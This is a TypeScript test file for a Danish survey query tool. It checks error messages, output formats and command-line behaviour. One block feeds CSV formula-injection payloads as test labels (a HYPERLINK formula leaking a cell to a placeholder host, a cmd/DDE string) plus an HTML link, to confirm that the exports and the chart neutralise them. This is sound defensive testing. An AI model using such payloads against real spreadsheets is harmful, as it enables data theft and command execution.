/**
 * The question spec (every named error, aliases, the three ways to write it), the output formats
 * (CSV per RFC 4180, CSV as Danish Excel reads it, JSON, xlsx read back) and the command line
 * (its `main` in this process: help, exit codes, the wide table; `bin/ask.js` on the compiled lib/ where the
 * process itself is tested: pipes, a reader that stops early).
 */
import { beforeAll, describe, expect, it } from "vitest";
import { spawnSync } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import ExcelJS from "exceljs";
import { loadDataset, type Dataset } from "../src/report/dataset";
import { weightPanel } from "../src/report/dataset";
import { WEIGHTING_VARIABLES } from "../src/codebook";
import { asReplicateDesign, svyciprop } from "../src/survey";
import { askResult } from "../src/ask/compute";
import { csvDanishText, csvText, jsonText, xlsxBuffer, type ExcelModule } from "../src/ask/export";
import { askFigure, BAR_COLOURS } from "../src/ask/chart";
import { parseAskArgs, specFromQuery, specToCommand, specToQuery } from "../src/ask/parse";
import { askMain } from "./helpers/ask-main";
import { BROWSER_NUMBER_TOLERANCE, CHECK_SPECS, compareJson } from "../src/checks/ask-page";
import { ROW_COLUMNS, type AskResult } from "../src/ask/result";
import { normalizeSpec, SPEC_ERROR_CODES, SpecError, type AskSpecInput, type SpecErrorCode } from "../src/ask/spec";

const root = path.join(__dirname, "..");

function codeOf(f: () => unknown): { code: SpecErrorCode; message: string; english: string; suggestions: string[] } {
  try {
    f();
  } catch (error) {
    if (error instanceof SpecError)
      return { code: error.code, message: error.message, english: error.text("en"), suggestions: error.suggestions };
    throw error;
  }
  throw new Error("expected a SpecError");
}

describe("spec: every named error", () => {
  const spec = (input: AskSpecInput) => () => normalizeSpec(input);
  const args =
    (...argv: string[]) =>
    () =>
      parseAskArgs(argv);
  const cases: [SpecErrorCode, () => unknown][] = [
    ["missing-question", spec({})],
    ["unknown-question", spec({ question: "ai_brugg" })],
    ["unknown-by", spec({ question: "tilbud", by: "storelse_x" })],
    ["too-many-by", spec({ question: "tilbud", by: "branche,stoerrelse,alder" })],
    ["by-is-question", spec({ question: "ai_brug", by: "ai_brug" })],
    ["by-is-question", spec({ question: "oekonomi", by: "oekonomi_2grp" })],
    ["by-repeated", spec({ question: "tilbud", by: ["stoerrelse", "stoerrelse_2grp"] })],
    ["unknown-base", spec({ question: "tilbud", base: "everyone" })],
    ["bad-filter", spec({ question: "ai_brug", filter: "stoerrelse" })],
    ["bad-filter", spec({ question: "ai_brug", filter: "stoerrelse=x" })],
    ["unknown-filter-variable", spec({ question: "ai_brug", filter: "size=1" })],
    ["filter-repeated", spec({ question: "ai_brug", filter: ["stoerrelse=1", "størrelse=2"] })],
    ["unknown-code", spec({ question: "ai_brug", filter: "stoerrelse=4" })],
    ["unknown-code", spec({ question: "pot_salg", answers: "7" })],
    ["unknown-code", spec({ question: "ai_brug", answers: "1-9999999999" })], // checked before it is expanded
    ["bad-filter", spec({ question: "ai_brug", filter: "erhvervshus=Midtjyland" })], // a label misspelt
    ["unknown-code", spec({ question: "ai_brug", filter: "stoerrelse=2-99999999999" })],
    ["bad-answers", spec({ question: "pot_salg", answers: "a-b" })],
    ["bad-answers", spec({ question: "oekonomi", answers: "1-2", stat: "mean" })],
    ["answers-not-categorical", spec({ question: "tilbud", answers: "1" })],
    ["unknown-stat", spec({ question: "ai_brug", stat: "median" })],
    ["mean-not-scale", spec({ question: "branche", stat: "mean" })],
    ["unknown-lang", spec({ question: "ai_brug", lang: "de" })],
    ["unknown-variance", spec({ question: "ai_brug", variance: "jackknife" })],
    ["unknown-variance", args("ai_brug", "--variance", "taylor")],
    ["bad-number", spec({ question: "ai_brug", minN: -1 })],
    ["bad-number", args("ai_brug", "--min-n", "x")],
    ["unknown-option", args("ai_brug", "--bye", "stoerrelse")],
    ["unknown-option", () => specFromQuery("question=ai_brug&bye=stoerrelse")],
    ["repeated-option", args("tilbud", "--by", "branche", "--by", "stoerrelse")],
    ["repeated-option", args("tilbud", "ai_brug")],
    ["repeated-option", () => specFromQuery("question=tilbud&by=branche&by=stoerrelse")],
    ["missing-value", args("tilbud", "--by")],
    ["unknown-format", args("tilbud", "--format", "xml")],
    ["missing-out", args("tilbud", "--format", "xlsx")],
    ["unknown-adjust", args("pot_salg", "--by", "stoerrelse", "--adjust", "brance")],
    ["bad-adjust", spec({ question: "pot_salg", answers: "1-2", adjust: "branche" })],
  ];
  // Words of the English messages that no Danish message holds.
  const ENGLISH =
    /\b(Unknown|expected|given|needs?|Choose|choose|the|is not|names|Did you mean|apply|write|Options|Formats|Parameters|Bases|Statistics|most|must|got|writes)\b/;
  it.each(cases.map(([code, f], k) => [k, code, f] as const))("case %i: %s", (_, code, f) => {
    const e = codeOf(f);
    expect(e.code).toBe(code);
    expect(e.message.length).toBeLessThan(400);
    expect(e.message, "the message is Danish by default").not.toMatch(ENGLISH);
    expect(e.english, "and English on request").toMatch(ENGLISH);
  });

  it("covers every code (the data-dependent ones in query.test.ts, the numeric one in numeric-question.test.ts, disclosure in serve.test.ts)", () => {
    const data: SpecErrorCode[] = [
      "base-not-asked",
      "by-not-asked",
      "empty-base",
      "numeric-not-categorical",
      "disclosure",
    ];
    expect([...new Set([...cases.map(([c]) => c), ...data])].sort()).toEqual([...SPEC_ERROR_CODES].sort());
  });

  it("filters and answer groups by label, case and æøå ignored, give the codes' answer", () => {
    const byCode = normalizeSpec({ question: "ai_brug", filter: "erhvervshus=5", answers: "1-2;3-5" });
    const byLabel = normalizeSpec({
      question: "ai_brug",
      filter: "erhvervshus=MIDTJYLLAND",
      answers: "bruger ikke ai endnu, men det er relevant+Bruger ikke AI, og det er ikke relevant;3-5",
    });
    expect(byLabel.filters).toEqual(byCode.filters);
    expect(byLabel.answers?.map((a) => a.codes)).toEqual(byCode.answers?.map((a) => a.codes));
    expect(normalizeSpec({ question: "ai_brug", filter: "stoerrelse=under 10 aarsvaerk" }).filters[0].codes).toEqual([
      1,
    ]);
  });

  it("near misses get a suggestion, not a list of every name", () => {
    expect(codeOf(() => normalizeSpec({ question: "ai_brugg" })).suggestions).toEqual(["ai_brug"]);
    expect(codeOf(() => normalizeSpec({ question: "tilbud", by: "storelse" })).suggestions[0]).toBe("stoerrelse");
    expect(codeOf(() => normalizeSpec({ question: "tilbud", base: "barier" })).suggestions).toContain("barrier");
    expect(codeOf(() => parseAskArgs(["tilbud", "--bye", "x"])).message).toContain('Mente du "--by"');
    expect(codeOf(() => parseAskArgs(["tilbud", "--bye", "x"])).english).toContain('Did you mean "--by"');
    expect(codeOf(() => normalizeSpec({ question: "ai_brugg" })).message).toMatch(/Mente du "ai_brug"\?/);
    expect(codeOf(() => normalizeSpec({ question: "potentiale" })).suggestions).toEqual([
      "pot_salg",
      "pot_udvikling",
      "pot_admin",
    ]);
  });

  it("a repeated --by says how to write two", () => {
    expect(codeOf(() => parseAskArgs(["tilbud", "--by", "branche", "--by", "stoerrelse"])).message).toContain(
      "--by=branche,stoerrelse",
    );
  });
});

describe("spec: names, aliases and the three ways to write it", () => {
  it("Danish letters and Danish words resolve", () => {
    const s = normalizeSpec({ question: "Tilbud", by: "størrelse,Økonomi_2grp", base: "barriere", stat: "andel" });
    expect(s.by).toEqual(["stoerrelse", "oekonomi_2grp"]);
    expect(s.base).toBe("barrier");
    expect(s.stat).toBe("share");
    expect(normalizeSpec({ question: "ai_brug", stat: "antal" }).stat).toBe("total");
    expect(normalizeSpec({ question: "oekonomi", stat: "gennemsnit" }).stat).toBe("mean");
  });

  it("command line, URL and object give the same spec", () => {
    const fromArgs = parseAskArgs([
      "pot_salg",
      "--by",
      "branche",
      "--answers",
      "1-2",
      "--filter",
      "stoerrelse=1",
      "--filter",
      "alder=3",
      "--stat",
      "total",
      "--lang",
      "en",
    ]).spec;
    const fromUrl = specFromQuery(
      "?question=pot_salg&by=branche&answers=1-2&filter=stoerrelse%3D1&filter=alder%3D3&stat=total&lang=en",
    );
    const fromObject = normalizeSpec({
      question: "pot_salg",
      by: ["branche"],
      answers: [1, 2],
      filter: { stoerrelse: [1], alder: 3 },
      stat: "total",
      lang: "en",
    });
    expect(fromArgs).toEqual(fromObject);
    expect(fromUrl).toEqual(fromObject);
    expect(fromObject.answers).toEqual([{ label: "Very large potential / Large potential", codes: [1, 2] }]);
  });

  it("a spec written as a link or a command reads back to itself", () => {
    for (const q of CHECK_SPECS) {
      const s = specFromQuery(q);
      expect(specFromQuery(specToQuery(s))).toEqual(s);
      const words =
        specToCommand(s)
          .replace(/^npx ask /, "")
          .match(/'[^']*'|\S+/g) ?? [];
      expect(parseAskArgs(words.map((w) => w.replace(/^'|'$/g, ""))).spec).toEqual(s);
    }
  });
});

/** An RFC 4180 reader (quoted fields, doubled quotes, CRLF), independent of the code under test. */
function readDelimited(text: string, separator: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') ((field += '"'), i++);
      else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === separator) (row.push(field), (field = ""));
    else if (ch === "\n") (row.push(field), rows.push(row), (row = []), (field = ""));
    else if (ch !== "\r") field += ch;
  }
  return rows;
}

describe("--variance: replicate weights as an alternative to linearisation", () => {
  let ds: Dataset;
  beforeAll(() => {
    ds = loadDataset();
  });

  it("defaults to linearised and says which method the JSON used", () => {
    const linearised = askResult(ds, normalizeSpec({ question: "ai_brug" }));
    expect(linearised.meta.variance.name).toBe("linearised");
    expect(linearised.meta.spec.variance).toBe("linearised");
    expect(specToQuery(normalizeSpec({ question: "ai_brug", variance: "bootstrap" }))).toBe(
      "question=ai_brug&variance=bootstrap",
    );
  });

  it("bootstrap: the estimate is the linearised one, the SE is the replicate design's (raked again), seeded", () => {
    const spec = normalizeSpec({ question: "ai_brug", answers: "3-5", variance: "bootstrap" });
    const result = askResult(ds, spec);
    const linearised = askResult(ds, normalizeSpec({ question: "ai_brug", answers: "3-5" }));
    const reps = asReplicateDesign(ds.design, { type: "bootstrap", replicates: 50, seed: 1 });
    const direct = svyciprop(reps, "ai_brug", [3, 4, 5]);
    expect(result.meta.variance.name).toBe("bootstrap");
    expect(result.rows[0].estimate).toBeCloseTo(linearised.rows[0].estimate as number, 10);
    expect(result.rows[0].se).toBeCloseTo(100 * direct.se, 10);
    expect(result.rows[0].se).not.toBeCloseTo(linearised.rows[0].se as number, 6);
    expect(askResult(ds, spec).rows[0].se).toBe(result.rows[0].se);
  });
});

describe("levels fixed by the raking", () => {
  it("every level of every raking variable has SE 0 and an interval of one point, never null or NaN", () => {
    const ds = loadDataset();
    for (const variable of WEIGHTING_VARIABLES) {
      for (const stat of ["share", "total"] as const) {
        const rows = askResult(ds, normalizeSpec({ question: variable, stat })).rows.filter((r) => !r.suppressed);
        expect(rows.length, variable).toBeGreaterThan(1);
        for (const row of rows) {
          const where = `${variable} ${stat} ${row.group} ${row.option}`;
          expect(Number.isFinite(row.estimate), where).toBe(true);
          expect(row.se, where).toBe(0);
          expect([row.ci_low, row.ci_high]).toEqual([row.estimate, row.estimate]);
        }
      }
    }
  });
});

describe("formats", () => {
  let ds: Dataset;
  let result: AskResult;
  beforeAll(() => {
    ds = loadDataset();
    result = askResult(ds, normalizeSpec({ question: "ai_brug", by: "stoerrelse" }));
  });

  it("csv: RFC 4180, CRLF, the row keys, quoted labels with commas, numbers rounded", () => {
    const text = csvText(result);
    expect(text.includes("\r\n")).toBe(true);
    const rows = readDelimited(text, ",");
    expect(rows[0]).toEqual([...ROW_COLUMNS]);
    expect(rows).toHaveLength(1 + result.rows.length);
    expect(text).toContain('"Bruger ikke AI, og det er ikke relevant"');
    rows.slice(1).forEach((r, k) => {
      expect(Number(r[ROW_COLUMNS.indexOf("estimate")])).toBeCloseTo(result.rows[k].estimate as number, 4);
      expect(r[ROW_COLUMNS.indexOf("weighted_base")]).not.toMatch(/\.\d{2,}/);
    });
  });

  it("csv-da: as Danish Excel reads it (BOM, ;, decimal comma) it gives csv's numbers", () => {
    const text = csvDanishText(result);
    expect(text.charCodeAt(0)).toBe(0xfeff);
    const danish = readDelimited(text.slice(1), ";");
    const plain = readDelimited(csvText(result), ",");
    expect(danish[0][0]).toBe("Gruppe");
    expect(danish.map((r) => r.length)).toEqual(plain.map((r) => r.length));
    const excelNumber = (cell: string): number => Number(cell.replace(/\./g, "").replace(",", ".")); // "." would be a thousands separator
    for (let k = 1; k < danish.length; k++) {
      for (const key of ["estimate", "ci_low", "ci_high", "se", "n", "weighted_base", "effective_n"] as const) {
        const c = ROW_COLUMNS.indexOf(key);
        expect(danish[k][c]).not.toContain(".");
        expect(excelNumber(danish[k][c])).toBe(Number(plain[k][c]));
      }
      expect(["ja", "nej"]).toContain(danish[k][ROW_COLUMNS.indexOf("suppressed")]);
    }
  });

  it("the page check's comparison: numbers within its relative tolerance, all else exact", () => {
    const expected = { p: 0.184645414431, label: "a", n: 10 };
    expect(compareJson(expected, { ...expected, p: 0.184645414428 }).problems).toHaveLength(1);
    expect(compareJson(expected, { ...expected, p: 0.184645414428 }, "", BROWSER_NUMBER_TOLERANCE).problems).toEqual(
      [],
    );
    expect(compareJson(expected, { ...expected, p: 0.1846454 }, "", BROWSER_NUMBER_TOLERANCE).problems).toHaveLength(1);
    expect(compareJson(expected, { ...expected, label: "b" }, "", BROWSER_NUMBER_TOLERANCE).problems).toHaveLength(1);
  });

  it("json: exactly { meta, rows }, estimates in percent", () => {
    const parsed = JSON.parse(jsonText(result)) as AskResult;
    expect(Object.keys(parsed)).toEqual(["meta", "rows"]);
    expect(compareJson(JSON.parse(JSON.stringify(result)), parsed).problems).toEqual([]);
    expect(parsed.rows[0].estimate as number).toBeGreaterThan(1);
    expect(parsed.meta.notice).toBe(ds.notice("da"));
  });

  it("xlsx: one sheet, metadata above, the table read back with numbers as numbers", async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(
      Buffer.from(await xlsxBuffer(ExcelJS as unknown as ExcelModule, result)) as unknown as ArrayBuffer,
    );
    expect(book.worksheets).toHaveLength(1);
    const sheet = book.worksheets[0];
    const values: unknown[][] = [];
    sheet.eachRow({ includeEmpty: true }, (r) => values.push((r.values as unknown[]).slice(1)));
    const head = values.findIndex((r) => r[0] === "Gruppe");
    expect(head).toBeGreaterThan(2);
    expect(values.slice(0, head).flat().join(" ")).toContain(result.meta.question.label);
    if (ds.isSynthetic) expect(values.slice(0, head).flat().join(" ")).toContain("syntetiske");
    const body = values.slice(head + 1);
    expect(body).toHaveLength(result.rows.length);
    body.forEach((r, k) => {
      expect(typeof r[ROW_COLUMNS.indexOf("estimate")]).toBe("number");
      expect(r[ROW_COLUMNS.indexOf("estimate")] as number).toBeCloseTo(result.rows[k].estimate as number, 4);
      expect(r[ROW_COLUMNS.indexOf("option")]).toBe(result.rows[k].option);
    });
  });
});

describe("hostile labels: exports that cannot run, charts without links", () => {
  const hostile = [
    { label: '=HYPERLINK("http://x.invalid/?leak="&A1,"Klik")', codes: [1, 2] },
    { label: "+cmd|' /C calc'!A0", codes: [3] },
    { label: '<a href="https://x.invalid">Klik</a>', codes: [4, 5] },
  ];
  let result: AskResult;
  beforeAll(() => {
    result = askResult(loadDataset(), normalizeSpec({ question: "ai_brug", answers: hostile, by: "stoerrelse" }));
  });
  it("csv and csv-da: every text cell starting with =, +, - or @ starts with an apostrophe", () => {
    for (const [text, sep] of [
      [csvText(result), ","],
      [csvDanishText(result).slice(1), ";"],
    ] as const) {
      const cells = readDelimited(text, sep).flat();
      expect(cells.some((c) => c.startsWith("'=HYPERLINK("))).toBe(true);
      expect(cells.some((c) => c.startsWith("'+cmd"))).toBe(true);
      expect(cells.filter((c) => /^[=+@]/.test(c))).toEqual([]);
      expect(cells.filter((c) => /^-/.test(c) && !/^-\d/.test(c))).toEqual([]);
    }
  });
  it("xlsx: no string cell starts with =, +, - or @, and no cell is a formula", async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(await xlsxBuffer(ExcelJS as unknown as ExcelModule, result)));
    const strings: string[] = [];
    book.worksheets[0].eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.formula).toBeUndefined();
        if (typeof cell.value === "string") strings.push(cell.value);
      }),
    );
    expect(strings.some((c) => c.startsWith("'=HYPERLINK("))).toBe(true);
    expect(strings.filter((c) => /^[=+@]/.test(c) || /^-\D/.test(c))).toEqual([]);
  });
  it("the chart's labels are plain text: no tag reaches Plotly", () => {
    const figure = JSON.stringify(askFigure(result));
    expect(figure).toContain("&lt;a href=");
    expect(figure).not.toMatch(/<a[ >]/);
  });
});

describe("two by-variables", () => {
  it("test the second within each group of the first, as the same question filtered to that group", () => {
    const dataset = loadDataset();
    const both = askResult(dataset, normalizeSpec({ question: "ai_brug", by: ["stoerrelse_2grp", "oekonomi_2grp"] }));
    const within = both.meta.tests.filter((t) => t.within !== undefined);
    expect(within.map((t) => t.within)).toEqual([
      "stoerrelse_2grp = Under 10 årsværk",
      "stoerrelse_2grp = Mindst 10 årsværk",
    ]);
    ["1", "2,3"].forEach((codes, k) => {
      const filtered = askResult(
        dataset,
        normalizeSpec({ question: "ai_brug", by: ["oekonomi_2grp"], filter: `stoerrelse=${codes}` }),
      );
      const { f, ndf, ddf, p } = filtered.meta.tests[0];
      expect([within[k].f, within[k].ndf, within[k].ddf, within[k].p]).toEqual([f, ndf, ddf, p]);
      expect(within[k].by).toBe("oekonomi_2grp");
    });
  });
});

describe("groups without respondents in the base", () => {
  it("are left out, and a note names them", () => {
    const result = askResult(loadDataset(), normalizeSpec({ question: "pot_salg", answers: "1-2", by: ["ai_brug"] }));
    const groups = new Set(result.rows.map((r) => r.group));
    expect([...groups].some((g) => g.startsWith("Bruger ikke AI, og det er ikke relevant"))).toBe(false);
    expect(result.rows.every((r) => (r.n ?? 0) > 0)).toBe(true);
    expect(result.meta.notes.join(" ")).toContain(
      "Udeladt, da ingen i basen hører til gruppen: Bruger ikke AI, og det er ikke relevant",
    );
  });
});

describe("by an item", () => {
  it("splits by its answer (Nej/Ja), each group as the question filtered to it", () => {
    const dataset = loadDataset();
    const ask = (input: AskSpecInput) => askResult(dataset, normalizeSpec(input));
    const split = ask({ question: "tilbud_raadgivning_ai", by: "tilbud_netvaerk" });
    for (const code of [0, 1]) {
      const group = split.rows.find((r) => r.by1_code === code);
      const filtered = ask({ question: "tilbud_raadgivning_ai", filter: `tilbud_netvaerk=${code}` }).rows[0];
      expect([group?.estimate, group?.se, group?.n]).toEqual([filtered.estimate, filtered.se, filtered.n]);
    }
  });
});

describe("derived questions", () => {
  const dataset = loadDataset();
  const ask = (input: AskSpecInput) => askResult(dataset, normalizeSpec(input));
  it("'large potential in at least one area' is the weighted share of the potential base in the relevant base", () => {
    const derived = ask({ question: "pot_mindst_et" });
    const potential = ask({ question: "pot_salg", base: "potential" }).meta.weighted_base;
    const relevant = ask({ question: "pot_salg", base: "relevant" }).meta.weighted_base;
    expect(derived.meta.base.name).toBe("relevant");
    expect(derived.rows[0].estimate).toBeCloseTo((100 * potential) / relevant, 8);
  });
  it("on base all, those not asked count as no, and a note says how many", () => {
    const all = ask({ question: "bar_mindst_en", base: "all" });
    const asked = ask({ question: "bar_mindst_en" });
    expect(all.meta.n).toBe(dataset.design.n);
    expect(all.rows[0].estimate as number).toBeLessThan(asked.rows[0].estimate as number);
    const notAsked = (all.meta.n - asked.meta.n).toLocaleString("da-DK");
    expect(all.meta.notes.join(" ")).toContain(`${notAsked} i basen blev ikke spurgt`);
    expect(asked.meta.notes.join(" ")).not.toContain("ikke spurgt");
  });
});

describe("overlapping answer groups", () => {
  it("are each their own share, as the group asked alone", () => {
    const dataset = loadDataset();
    const shares = (answers: string) =>
      askResult(dataset, normalizeSpec({ question: "pot_salg", answers, by: ["stoerrelse"] })).rows.map((r) => [
        r.group,
        r.estimate,
        r.se,
      ]);
    const both = askResult(dataset, normalizeSpec({ question: "pot_salg", answers: "3-5;4-5", by: ["stoerrelse"] }));
    const of = (k: number) => both.rows.filter((_, i) => i % 2 === k).map((r) => [r.group, r.estimate, r.se]);
    expect(of(0)).toEqual(shares("3-5"));
    expect(of(1)).toEqual(shares("4-5"));
    expect(both.meta.tests[0].p).not.toBeNull();
  });
});

describe("labels of combined answers", () => {
  const labels = (answers: string, lang: "da" | "en" = "da") =>
    normalizeSpec({ question: "ai_brug", answers, lang }).answers?.map((g) => g.label) ?? [];
  it("stay whole while short", () => {
    expect(normalizeSpec({ question: "pot_salg", answers: "1-2" }).answers?.[0].label).toBe(
      "Meget stort potentiale / Stort potentiale",
    );
  });
  it("are built short from the codes and the first label when the labels are long", () => {
    for (const lang of ["da", "en"] as const)
      for (const label of [...labels("1-5", lang), ...labels("1,3-5", lang)])
        expect(label.length).toBeLessThanOrEqual(60);
    expect(labels("1,3-5")[0]).toMatch(/^Koder 1, 3–5: Bruger ikke AI/);
    expect(labels("1-5", "en")[0]).toMatch(/^Codes 1–5: .* and others$/);
  });
});

describe("the chart's colours", () => {
  /** WCAG's relative luminance and contrast ratio. */
  const luminance = (hex: string) =>
    [1, 3, 5]
      .map((k) => parseInt(hex.slice(k, k + 2), 16) / 255)
      .map((c) => (c <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4))
      .reduce((sum, c, k) => sum + c * [0.2126, 0.7152, 0.0722][k], 0);
  const contrast = (a: string, b: string) => {
    const [hi, lo] = [luminance(a), luminance(b)].sort((x, y) => y - x);
    return (hi + 0.05) / (lo + 0.05);
  };
  const figure = askFigure(
    askResult(loadDataset(), normalizeSpec({ question: "ai_brug", by: ["branche", "stoerrelse_2grp"] })),
  );
  it("twenty groups get twenty different colours", () => {
    const colours = figure.data.map((t) => (t.marker as { color: string }).color);
    expect(colours.length).toBe(20);
    expect(new Set(colours).size).toBe(20);
  });
  it("every bar stands out from the background and its whisker from the bar (3:1)", () => {
    const whiskers = new Set(figure.data.map((t) => (t.error_x as { color: string }).color));
    expect([...whiskers]).toEqual(["#000"]);
    for (const colour of BAR_COLOURS) {
      expect(contrast(colour, "#ffffff"), colour).toBeGreaterThanOrEqual(3);
      expect(contrast(colour, "#000000"), colour).toBeGreaterThanOrEqual(3);
    }
  });
});

describe("bases on a changed panel", () => {
  it("a column replaced before weighting is read from its new values", () => {
    const loaded = loadDataset();
    const panel = { ...loaded.panel, columns: { ...loaded.panel.columns } };
    panel.columns.ai_brug = panel.columns.ai_brug.map(() => 1); // nobody uses AI: no one is asked pot_salg
    const design = weightPanel(panel, loaded.margins).design;
    const source = { design, isSynthetic: true, notice: () => "" };
    expect(codeOf(() => askResult(source, normalizeSpec({ question: "pot_salg" }))).code).toBe("empty-base");
    expect(askResult(loaded, normalizeSpec({ question: "pot_salg" })).meta.n).toBeGreaterThan(0);
  });
});

describe("command line (main in this process; bin/ask.js on lib/ for pipes)", () => {
  beforeAll(() => {
    const stale = fs.readdirSync(path.join(root, "src", "ask")).some((f) => {
      const built = path.join(root, "lib", "ask", f.replace(/\.ts$/, ".js"));
      return (
        !fs.existsSync(built) || fs.statSync(built).mtimeMs < fs.statSync(path.join(root, "src", "ask", f)).mtimeMs
      );
    });
    if (stale)
      spawnSync(process.execPath, [path.join(root, "node_modules", "typescript", "bin", "tsc"), "-p", root], {
        cwd: root,
      });
  });
  const run = (...argv: string[]) => askMain(argv);

  it("--out never overwrites a file the answer is read from, and a failed write names the file without a stack trace", async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "ask-out-"));
    const panel = path.join(dir, "panel.csv");
    fs.copyFileSync(path.join(root, "data", "survey", "panel-2025-synthetic.csv"), panel);
    const before = fs.readFileSync(panel);
    const onPanel = await askMain(["ai_brug", "--format", "csv", "--out", panel], { PANEL_FILE: panel });
    expect(onPanel.status).toBe(1);
    expect(onPanel.stderr).toContain("det er en af de filer, svaret læses fra");
    expect(fs.readFileSync(panel).equals(before)).toBe(true);
    const full = await run("ai_brug", "--format", "csv", "--out", "/dev/full");
    expect(full.status).toBe(1);
    expect(full.stderr).toMatch(/^kunne ikke skrive \/dev\/full: ENOSPC/);
    expect(full.stderr).not.toMatch(/\n\s+at /);
    const good = path.join(dir, "svar.csv");
    expect((await run("ai_brug", "--format", "csv", "--out", good)).status).toBe(0);
    expect(fs.readdirSync(dir).sort()).toEqual(["panel.csv", "svar.csv"]); // no temporary file left
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it("--list shows every single-answer question's codes with their labels (the codes filters need)", async () => {
    const r = await run("--list");
    expect(r.status).toBe(0);
    expect(r.stdout).toContain("1 = Under 10 årsværk; 2 = 10-49 årsværk; 3 = 50-249 årsværk");
    expect(r.stdout).toMatch(/\d = Midtjylland/);
  });

  it("--help exits 0 in Danish (English with --lang en), with examples and the npm '--' note", async () => {
    const r = await run("--help");
    expect(r.status).toBe(0);
    expect(r.stdout).toContain("Eksempler:");
    expect(r.stdout).not.toContain("Examples");
    expect(r.stdout).toContain("--bypass-2fa");
    const en = await run("--help", "--lang", "en");
    expect(en.stdout).toContain("Examples:");
    expect(en.stdout).toContain("--bypass-2fa");
  });

  it("a misspelt name exits 2 with a short 'did you mean'", async () => {
    const r = await run("tilbud", "--by", "storrelse_2gr");
    expect(r.status).toBe(2);
    expect(r.stderr).toContain('Mente du "stoerrelse_2grp"');
    expect((await run("tilbud", "--by", "storrelse_2gr", "--lang", "en")).stderr).toContain(
      'Did you mean "stoerrelse_2grp"',
    );
    expect(r.stderr.length).toBeLessThan(400);
  });

  it("the table with --by is a wide cross-table: one column per group, one line per answer", async () => {
    const r = await run("ai_brug", "--by", "størrelse");
    expect(r.status).toBe(0);
    const lines = r.stdout.split("\n");
    const header = lines.find((l) => l.startsWith("Svar"));
    expect(header).toMatch(/I alt +Under 10 årsværk +10-49 årsværk +50-249 årsværk$/);
    expect(
      lines.filter((l) =>
        /^Har eksperimenteret.*\(\d+,\d–\d+,\d\).*\(\d+,\d–\d+,\d\).*\(\d+,\d–\d+,\d\).*\(\d+,\d–\d+,\d\)$/.test(l),
      ),
    ).toHaveLength(1);
  });

  it("--format xlsx --out writes the file; json on stdout parses", async () => {
    const out = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "ask-")), "svar.xlsx");
    expect((await run("tilbud", "--format", "xlsx", "--out", out)).status).toBe(0);
    expect(fs.readFileSync(out).subarray(0, 2).toString()).toBe("PK");
    const j = await run("tilbud", "--by", "oekonomi_2grp", "--format", "json");
    expect(JSON.parse(j.stdout).meta.by[0].name).toBe("oekonomi_2grp");
  });

  // Both streams into one slow pipe (`2>&1 | slow reader`): the answer (over the pipe's 64 KB) is
  // written in pieces, and the notice on stderr must still come after all of it.
  const shell = (command: string) =>
    spawnSync("sh", ["-c", command], { cwd: root, encoding: "utf8", env: { ...process.env, PANEL_FILE: "" } });
  const bin = JSON.stringify(path.join(root, "bin", "ask.js"));
  const node = JSON.stringify(process.execPath);

  it("stdout and stderr in one slow pipe: the whole JSON answer, then the notice", async () => {
    const alone = await askMain(["ai_brug", "--by", "branche,stoerrelse", "--format", "json"], { PANEL_FILE: "" });
    expect(alone.stdout.length).toBeGreaterThan(65536);
    // The reader starts reading only after the command has written all it can (it takes under 1.5 s).
    const merged = shell(`${node} ${bin} ai_brug --by branche,stoerrelse --format json 2>&1 | (sleep 1.5; cat)`);
    expect(merged.stdout).toBe(alone.stdout + alone.stderr);
  });

  it("a reader that stops early (| head) ends the command quietly with exit 0", () => {
    for (const reader of ["head -c 100", "(sleep 0.3; head -c 100)"]) {
      const r = shell(
        `{ ${node} ${bin} tilbud --base barrier --by branche,oekonomi_2grp --format json; echo "ask exit $?" >&2; } | ${reader} >/dev/null`,
      );
      expect(r.stderr).toContain("ask exit 0");
      expect(r.stderr).not.toMatch(/EPIPE|Error|\n\s+at /);
    }
  });
});
